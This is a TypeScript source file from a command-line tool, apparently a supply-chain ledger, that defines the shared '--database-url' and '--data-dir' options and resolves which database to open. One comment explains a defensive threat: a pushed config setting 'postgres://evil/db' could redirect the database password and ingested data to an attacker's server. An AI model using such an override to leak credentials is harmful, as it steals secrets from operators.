import { resolveDatabaseUrl } from '../io/db.js';
import { stringFlag } from './args.js';
import type { OptionSpec, ParsedArgs } from './command.js';

/** The flags that choose the database, shared by every command that opens one. */
export const databaseOptions = {
  'database-url': {
    type: 'string',
    valueName: 'URL',
    description: 'postgres:// URL (default: DATABASE_URL, else the embedded database)',
    // a pusher's `ingest: {database-url: postgres://evil/db}` would win over the operator's
    // DATABASE_URL and take PGPASSWORD (or ~/.pgpass) and every run ingested to their server
    receivesCredential: 'the database password (PGPASSWORD, ~/.pgpass)',
  },
  'data-dir': {
    type: 'string',
    valueName: 'DIR',
    description: 'embedded database directory (default .slsa-ledger/db)',
  },
} as const satisfies Readonly<Record<string, OptionSpec>>;

/** The database the flags (and DATABASE_URL) choose; an empty object means the embedded default. */
export function databaseTarget(
  args: ParsedArgs,
  env: Readonly<Record<string, string | undefined>>,
): { databaseUrl?: string; dataDir?: string } {
  const databaseUrl = resolveDatabaseUrl(stringFlag(args, 'database-url'), env);
  const dataDir = stringFlag(args, 'data-dir');
  return {
    ...(databaseUrl === undefined ? {} : { databaseUrl }),
    ...(dataDir === undefined ? {} : { dataDir }),
  };
}
